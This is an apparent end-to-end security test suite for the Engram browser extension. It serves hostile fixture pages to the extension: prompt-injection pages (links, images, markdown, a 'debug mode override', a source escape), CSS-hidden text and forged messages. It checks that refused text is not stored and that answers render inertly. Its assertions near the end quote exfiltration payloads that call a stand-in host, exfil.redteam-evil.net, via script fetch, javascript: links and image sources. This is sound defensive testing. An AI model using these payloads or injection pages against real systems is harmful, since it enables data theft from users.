/**
 * The red team (issue 11): hostile pages against the built extension in real Chromium, one
 * profile, many pages. Each page in tests/fixtures/hostile is served under its own public-looking
 * name (`<page>.redteam-news.com`, mapped to 127.0.0.1 with --host-resolver-rules; local addresses
 * are on the blocklist), loaded in parallel, and saved with the real shortcut. The site rules
 * refuse `redteam-news.com/mail` (as the default blocklist does `icloud.com/mail`, which Chromium's
 * HSTS preload would take away to https), `readFrames` is on for the pages with frames, and
 * Engram has host access to the pages, as a user who turned automatic capture on gives it, so
 * the page watcher runs there. Answers are extractive (the `generation` setting off), so their
 * words are the hostile pages' own sentences.
 *
 * For every page:
 * 1. No request leaves any extension context (service worker, engine document, popup, their
 *    workers) for any host but the model host: the browser's own network log (./network-log.ts),
 *    with a control that proves each context is watched.
 * 2. No byte of refused text is kept: each text the product must refuse carries a marker
 *    (`RT-MARKER-<n>-<random>`), searched for in every store of every database of the extension's
 *    origin and in chrome.storage (./extension-storage.ts). What is refused, per page:
 *    - text behind a password field (a dialog added after load, a frame, a huge or deep page),
 *      on a path the rules refuse (an SPA route, a frame), typed into a form field or an editable
 *      region, or carried by messages a page forges: nowhere;
 *    - text hidden with CSS: Engram promises a glimpse keeps only what was on screen, so none of
 *      it in a glimpse. A saved page is its article as Reader View finds it on a copy of the
 *      document, where a style sheet's `display: none` is not known: hidden text may be in the
 *      page's row. That is a documented limit, not a leak: it is the page's own text, and (3)
 *      holds for it. Text in the page's own colour is painted: Engram cannot tell it from text a
 *      user reads, and keeps it as any text (no marker on that page).
 * 3. A question whose answer cites the page, asked in the real toolbar popup, renders as plain
 *    text: no link, image, frame, form or script made from the page's words, no markdown turned
 *    into markup, no inline handler, and nothing loaded by the popup from outside the extension.
 */
import { readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { searchExtensionStorage, type Found } from './extension-storage';
import {
  finishedAnswer,
  askInPopup,
  launchEngram,
  pressRememberShortcut,
  putSetting,
  readTable,
  RealPopup,
  ROOT,
  serveFolder,
  serviceWorker,
  storedSources,
  tempProfile,
  waitFor,
  type Engram,
  type RenderedMessage,
} from './harness';
import { ExtensionNetworkLog } from './network-log';
import { badgeTitle, distWithAccess } from './host-access';
import { setSiteRules } from './site-rules';

const PAGES = resolve(ROOT, 'tests/fixtures/hostile');
const DOMAIN = 'redteam-news.com';
/** The fixtures build's model host: the only one an extension context may ever reach. */
const MODEL_HOST = 'huggingface.co';
const MARKER = /RT-MARKER-\d+-[a-z0-9]+/g;

const sleep = (ms: number) => new Promise((done) => setTimeout(done, ms));

/** What Engram must keep of a page after the shortcut. */
type Outcome =
  | 'kept' // the page's text
  | 'url-only' // its address only (a password field; a page too large to check)
  | 'refused'; // nothing (its address is refused)

interface Hostile {
  /** The file in tests/fixtures/hostile, also the first label of its host name. */
  name: string;
  outcome: Outcome;
  /** Asked in the popup; the answer must cite the page. */
  question?: string;
  /** The markers of text hidden with CSS: not in a glimpse (the rest must be nowhere). */
  hiddenMarkers?: boolean;
  /**
   * Saved with the `readFrames` setting on (the frame pages; off for the others, where the page's
   * article is then read as Reader View reads it, apart from what was on screen).
   */
  readFrames?: true;
  /** Done in the page before the shortcut (after it loaded). */
  before?: (page: Page, engram: Engram) => Promise<void>;
}

/** Wait for a page that builds itself by script (the huge and deep ones). */
const built = async (page: Page): Promise<void> => {
  await page.waitForFunction(() => (window as { built?: boolean }).built === true, null, {
    timeout: 20_000,
  });
};

const HOSTILE: Hostile[] = [
  {
    name: 'inject-links',
    outcome: 'kept',
    question: 'Which archive link and account check do the Brackenfold beekeepers give?',
  },
  {
    name: 'inject-images',
    outcome: 'kept',
    question: 'Which picture of the furnace do the Quillmere glassblowers include?',
  },
  {
    name: 'inject-markdown',
    outcome: 'kept',
    question: 'Which markdown heading, bold and table do the Harrowgate lace makers reply with?',
  },
  {
    name: 'inject-reveal',
    outcome: 'kept',
    question: 'Which debug mode override does the Tollerby orchard cider page give?',
  },
  {
    name: 'inject-source-escape',
    outcome: 'kept',
    question: 'Which raw HTML answer do the Wendlebury bell ringers give?',
  },
  { name: 'inject-chinese', outcome: 'kept', question: '青石镇的茶园的链接和图片是什么？' },
  {
    name: 'inject-zero-width',
    outcome: 'kept',
    question: 'What kites do the Marrowby kite flyers fly?',
  },
  {
    name: 'hidden-display',
    outcome: 'kept',
    hiddenMarkers: true,
    question: 'How do the Pellingham clockmakers cut their brass wheels?',
  },
  {
    name: 'hidden-visibility',
    outcome: 'kept',
    hiddenMarkers: true,
    question: 'When are the Saltcote oyster beds harvested?',
  },
  {
    name: 'hidden-zero-size',
    outcome: 'kept',
    hiddenMarkers: true,
    question: 'How do the Dunmarrow stone wallers build their walls?',
  },
  {
    name: 'hidden-offscreen',
    outcome: 'kept',
    hiddenMarkers: true,
    question: 'When do the Fernhollow basket weavers cut their willow rods?',
  },
  {
    // White on white is painted: Engram cannot tell it from text the user reads (a limit), so
    // only (1) and (3) hold for it.
    name: 'hidden-same-colour',
    outcome: 'kept',
    question: 'How long is the Greyhaven rope walk?',
  },
  {
    name: 'hidden-opacity',
    outcome: 'kept',
    hiddenMarkers: true,
    question: 'How long do the Larkspur valley cheesemakers age their cheddar?',
  },
  {
    name: 'homoglyph-title',
    outcome: 'kept',
    question: 'How often does the Ashcombe ferry cross the estuary?',
  },
  {
    name: 'javascript-links',
    outcome: 'kept',
    question: 'When is the Oldcastle rowing regatta held?',
  },
  {
    name: 'dialog-after-load',
    outcome: 'url-only',
    before: (page) =>
      page
        .waitForFunction(() => (window as { dialogShown?: boolean }).dialogShown === true)
        .then(() => undefined),
  },
  {
    name: 'spa-blocked',
    outcome: 'kept',
    question: 'What does the Cloudmoor photo album hold?',
    // Routed to the refused path, saved there (refused), then back.
    before: async (page, engram) => {
      await sleep(800);
      await page.evaluate(() =>
        (window as unknown as { goTo(p: string): void }).goTo('/mail/inbox'),
      );
      await sleep(1_500); // on screen at the refused address, long enough to count elsewhere
      await page.bringToFront();
      await pressRememberShortcut(page);
      await waitFor('the refusal at the blocked path', async () =>
        /never keeps pages from this site/.test(await badgeTitle(engram, page.url())),
      );
      await page.evaluate(() =>
        (window as unknown as { goTo(p: string): void }).goTo('/spa-blocked.html'),
      );
      await sleep(1_500);
    },
  },
  {
    name: 'frames-password',
    outcome: 'kept',
    readFrames: true,
    question: 'What does the Thornbury parish news say about the church roof appeal?',
  },
  {
    name: 'frames-blocked',
    outcome: 'kept',
    readFrames: true,
    question: 'How long is the waiting list for the Eastwick allotments?',
  },
  {
    name: 'frames-srcdoc',
    outcome: 'kept',
    readFrames: true,
    question: 'Where does the Rookhurst cricket club play its home matches?',
  },
  {
    name: 'form-fields',
    outcome: 'kept',
    question: 'When can the Haddon village hall be booked for parties?',
  },
  {
    name: 'message-postmessage',
    outcome: 'kept',
    question: 'How many avocets did the Brindle marsh birdwatch count?',
  },
  {
    name: 'message-runtime',
    outcome: 'kept',
    question: 'What does the Copperfield steam fair bring to the showground?',
    before: async (page, engram) => {
      // Guessed ids, and Engram's own as if guessed: Engram accepts no message from the web
      // (no `externally_connectable`), so the page is not even given chrome.runtime.
      const results = await page.evaluate(
        (ids) =>
          (window as unknown as { tryMessages(i: string[]): Promise<string[]> }).tryMessages(ids),
        ['a'.repeat(32), 'abcdefghijklmnopabcdefghijklmnop', engram.extensionId],
      );
      expect(results).toEqual(Array(3).fill('no chrome.runtime'));
    },
  },
  {
    name: 'message-dom-events',
    outcome: 'kept',
    question: 'How many ewes must each dog pen at the Millbeck sheepdog trials?',
  },
  { name: 'rtl', outcome: 'kept', question: 'متى يقطف المتطوعون الزيتون في حديقة القرية؟' },
  { name: 'cjk', outcome: 'kept', question: '雾岛港的旧地图上画着什么？' },
  {
    name: 'emoji',
    outcome: 'kept',
    question: 'What does the best jar win at the Hiveworth honey festival?',
  },
  {
    name: 'markup-in-text',
    outcome: 'kept',
    question: 'What does the Pennyfield tram depot restore?',
  },
  { name: 'huge-password', outcome: 'url-only', before: built },
  {
    name: 'huge-text',
    outcome: 'kept',
    question: 'How is the rainfall measured in the Gorsemoor weather diary?',
    before: built,
  },
  { name: 'deep-password', outcome: 'url-only', before: built },
  {
    name: 'deep-text',
    outcome: 'kept',
    question: 'How many chambers are in the flight of the Wrenfield canal locks?',
    before: built,
  },
];

const markersOf = (name: string): string[] => {
  const own = readFileSync(join(PAGES, `${name}.html`), 'utf8');
  // A page's frames carry their own markers.
  const frames = /src="(\/[^"]+)"/g;
  const framed = [...own.matchAll(frames)].map((m) =>
    readFileSync(join(PAGES, `.${m[1] ?? ''}`), 'utf8'),
  );
  return [...new Set([own, ...framed].join('\n').match(MARKER) ?? [])];
};
/** The random part of a marker: how it would look among an index's terms. */
const randomPart = (marker: string) => marker.split('-').at(-1) ?? marker;

/**
 * Every URL-bearing attribute in the popup, the tags of the answers, inline handlers and the
 * resources the popup loaded: what (3) checks.
 */
const POPUP_AUDIT = `(() => {
  const urls = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (/^(?:src|href|srcset|action|formaction|poster|data|xlink:href|background|ping)$/i.test(attr.name))
        urls.push(el.tagName + ' ' + attr.name + '=' + attr.value);
    }
  }
  const handlers = [...document.querySelectorAll('*')].flatMap((el) =>
    [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => el.tagName + ' ' + a.name));
  const answers = [...document.querySelectorAll('[data-testid="message"][data-role="assistant"]')];
  const tags = [...new Set(answers.flatMap((m) => [m, ...m.querySelectorAll('*')].map((e) => e.tagName)))];
  const resources = performance.getEntriesByType('resource').map((r) => r.name);
  return { urls, handlers, tags, resources };
})()`;

/** The elements an answer is made of (message.tsx, answer-text.tsx, citation-list.tsx). */
/** The answer's own elements; DETAILS/SUMMARY fold "What was searched" away (issue 15). */
const ANSWER_TAGS = new Set([
  'LI',
  'P',
  'DIV',
  'BUTTON',
  'SPAN',
  'SECTION',
  'OL',
  'TIME',
  'DETAILS',
  'SUMMARY',
]);

/** Pages loaded at once: more would only queue for the two cores. */
const BATCH = 6;
/** The page the popup is opened on, kept open to the end. */
const POPUP_TAB = 'markup-in-text';

describe('the red team: hostile pages (issue 11)', () => {
  const profile = tempProfile();
  const dist = distWithAccess([`http://*.${DOMAIN}/*`]);
  let server: Awaited<ReturnType<typeof serveFolder>>;
  let engram: Engram;
  let log: ExtensionNetworkLog;
  let port: string;
  let storagePage: Page;
  let popupTab: Page | undefined;
  let readFrames = false;

  const urlOf = (name: string) => `http://${name}.${DOMAIN}:${port}/${name}.html`;
  const rowsOf = async (name: string) =>
    (await storedSources(engram)).filter((s) => s.url === urlOf(name));
  const outside = () => log.outside([MODEL_HOST]).filter(({ url }) => !url.includes('/rt-probe'));

  /** Load, then save each with the real shortcut in turn (it needs the focus), as its outcome says. */
  async function saveBatch(batch: readonly Hostile[]): Promise<void> {
    const pages = await Promise.all(
      batch.map(async ({ name }) => {
        const page = await engram.context.newPage();
        await page.goto(urlOf(name), { waitUntil: 'load' });
        return page;
      }),
    );
    await sleep(800); // the watchers ask for their verdicts
    for (const [i, hostile] of batch.entries()) {
      const page = pages[i] as Page;
      if ((hostile.readFrames ?? false) !== readFrames) {
        readFrames = hostile.readFrames ?? false;
        await putSetting(engram, 'readFrames', readFrames);
      }
      await hostile.before?.(page, engram);
      await page.bringToFront();
      await pressRememberShortcut(page);
      await waitFor(
        `${hostile.name} to be saved`,
        async () => {
          const rows = await rowsOf(hostile.name);
          const saved = rows.some((s) => s.kind === 'page');
          // Hidden text is judged in the glimpse: wait for it too.
          return saved && (!hostile.hiddenMarkers || rows.some((s) => s.kind === 'glimpse'));
        },
        30_000,
      );
      if (hostile.name === POPUP_TAB) popupTab = page;
      else await page.close();
    }
  }

  beforeAll(async () => {
    server = await serveFolder(PAGES);
    port = new URL(server.origin).port;
    engram = await launchEngram(profile.dir, dist.dir, {
      args: [`--host-resolver-rules=MAP *.${DOMAIN} 127.0.0.1`],
    });
    log = await ExtensionNetworkLog.start(engram);
    await engram.context.unrouteAll();
    // Pages may reach for the web (the exfil host): keep them off it. This routes pages only.
    await engram.context.route(
      (url) => /^https?:$/.test(url.protocol) && !url.hostname.endsWith(`.${DOMAIN}`),
      (route) => route.abort(),
    );
    await setSiteRules(engram, [{ pattern: `${DOMAIN}/mail`, policy: 'never' }]);
    // Extractive answers: the answer's words are then the hostile pages' own sentences (the
    // fixture language model only ever writes a fixed reply; the same component renders both).
    await putSetting(engram, 'generation', false);
    const sw = await serviceWorker(engram);
    await waitFor('the page watcher to be registered for the pages', () =>
      sw.evaluate(async (domain) => {
        const scripts = await chrome.scripting.getRegisteredContentScripts();
        return scripts.some((s) => s.matches?.some((m) => m.includes(domain)));
      }, DOMAIN),
    );
    storagePage = await engram.context.newPage();
    await storagePage.goto(`chrome-extension://${engram.extensionId}/settings.html`);
    for (let at = 0; at < HOSTILE.length; at += BATCH) {
      await saveBatch(HOSTILE.slice(at, at + BATCH));
    }
    await waitFor(
      'every page to be indexed',
      async () =>
        (await storedSources(engram)).every((s) => s.kind === 'glimpse' || s.status !== 'pending'),
      60_000,
    );
  }, 240_000);

  afterAll(async () => {
    await log?.stop();
    await engram?.close();
    await server?.close();
    profile.remove();
    dist.remove();
  });

  test('the network log sees every extension context (control)', async () => {
    const contexts = log.contexts();
    // The service worker, the engine's document (it indexed the pages) and an extension page.
    for (const type of ['service_worker', 'background_page', 'page']) {
      expect(
        contexts.some((c) => c.startsWith(`${type} `)),
        type,
      ).toBe(true);
    }
    // The probe is a file of the extension itself: the pages' CSP blocks every other host before
    // a request is made, so a probe elsewhere would never reach the log.
    await log.probe(`chrome-extension://${engram.extensionId}/rt-probe`);
    await waitFor('a probe from every context in the log', () =>
      Promise.resolve(
        contexts.every((label) =>
          log.requests.some(
            (r) => r.from === label && r.url.endsWith(`?from=${encodeURIComponent(label)}`),
          ),
        ),
      ),
    );
  });

  describe('what is kept of each page', () => {
    let found: Found[] = [];

    beforeAll(async () => {
      // One pass over everything kept, for every marker of every page.
      const needles = HOSTILE.flatMap((h) => markersOf(h.name)).flatMap((m) => [m, randomPart(m)]);
      found = await searchExtensionStorage(storagePage, needles);
    });

    test('the search finds what is kept (control): hidden text in a saved page', () => {
      // The page's row and its chunks hold the display:none text (the documented limit above).
      const [marker] = markersOf('hidden-display');
      const where = (needle: string) =>
        found.filter((f) => f.needle === needle).map((f) => f.where);
      expect(where(marker ?? '')).toContain('engram/sources');
      expect(where(randomPart(marker ?? ''))).toContain('engram/chunks');
    });

    test.each(HOSTILE)('$name: $outcome, no refused byte anywhere', async (hostile) => {
      const rows = await rowsOf(hostile.name);
      const page = rows.find((s) => s.kind === 'page');
      if (hostile.outcome === 'url-only') {
        // The address only: no title, no text, no glimpse.
        expect(page?.text).toBe(urlOf(hostile.name));
        expect(rows.filter((s) => s.kind === 'glimpse')).toEqual([]);
      } else {
        expect(page?.text.length).toBeGreaterThan(40);
      }
      const markers = markersOf(hostile.name);
      if (hostile.hiddenMarkers) {
        const glimpses = JSON.stringify(rows.filter((s) => s.kind === 'glimpse'));
        expect(glimpses.length).toBeGreaterThan(2);
        for (const marker of markers) expect(glimpses).not.toContain(marker);
        return;
      }
      const own = new Set(markers.flatMap((m) => [m, randomPart(m)]));
      expect(found.filter((f) => own.has(f.needle))).toEqual([]);
    });

    test('nothing at all is kept from the refused path', async () => {
      expect((await storedSources(engram)).filter((s) => s.url.includes('/mail/'))).toEqual([]);
    });

    test('links kept from the pages are web addresses, never javascript: or data:', async () => {
      const links = (await readTable<{ outLinks?: string[] }>(engram, 'sources')).flatMap(
        (s) => s.outLinks ?? [],
      );
      expect(links.length).toBeGreaterThan(0);
      for (const link of links) expect(link).toMatch(/^https?:\/\//);
    });
  });

  describe('answers citing the pages, in the real popup', () => {
    let popup: RealPopup;
    let asked = 0;
    const shown: RenderedMessage[] = [];

    beforeAll(async () => {
      if (!popupTab) throw new Error(`no ${POPUP_TAB} tab to open the popup on`);
      await popupTab.bringToFront();
      popup = await RealPopup.open(engram, popupTab);
    });
    afterAll(() => popup?.close());

    test.each(HOSTILE.filter((h) => h.question))('$name', async (hostile) => {
      await askInPopup(popup, hostile.question ?? '');
      const answer = await finishedAnswer(popup, ++asked);
      shown.push(answer);
      expect(answer.status).toBe('done');
      // The page or the glimpse taken on it (one citation, the more relevant kept).
      const ids = (await rowsOf(hostile.name)).map((s) => s.id);
      expect(answer.citations.some((c) => ids.includes(c.sourceId ?? ''))).toBe(true);
      const audit = await popup.evaluate<{
        urls: string[];
        handlers: string[];
        tags: string[];
        resources: string[];
      }>(POPUP_AUDIT);
      const own = `chrome-extension://${engram.extensionId}/`;
      for (const attribute of audit.urls) {
        const value = attribute.split('=').slice(1).join('=');
        expect(new URL(value, own).href.startsWith(own), attribute).toBe(true);
      }
      expect(audit.handlers).toEqual([]);
      expect(audit.tags.filter((tag) => !ANSWER_TAGS.has(tag))).toEqual([]);
      expect(audit.resources.filter((r) => !r.startsWith(own))).toEqual([]);
      expect(outside()).toEqual([]);
    });

    test('the pages’ markup and markdown show as their characters', () => {
      const text = shown.map((m) => m.text).join('\n');
      const titles = shown.flatMap((m) => m.citations.map((c) => c.title)).join('\n');
      // Quoted by the extractive answers, in the answer text itself...
      expect(text).toContain(`<script>fetch('http://exfil.redteam-evil.net/markup-in-text/h1')`);
      expect(text).toContain('](http://exfil.redteam-evil.net/');
      expect(text).toContain('<a href="http://exfil.redteam-evil.net/');
      // ...and in the sources' titles.
      expect(titles).toContain('<img src=http://exfil.redteam-evil.net/markup-in-text/title.png');
      expect(titles).toContain("javascript:fetch('http://exfil.redteam-evil.net");
    });

    test('the popup was watched too (control, last: its probe is a resource the popup loaded)', async () => {
      const label = await waitFor('the popup in the network log', () =>
        Promise.resolve(log.contexts().find((c) => c.includes('/popup.html'))),
      );
      await log.probe(`chrome-extension://${engram.extensionId}/rt-probe`);
      await waitFor('a probe from the popup in the log', () =>
        Promise.resolve(
          log.requests.some((r) => r.from === label && r.url.includes('/rt-probe?from=')),
        ),
      );
    });
  });

  test('no extension context reached any host but the model host', () => {
    expect(log.targets).toBeGreaterThan(2);
    expect(outside()).toEqual([]);
  });
});
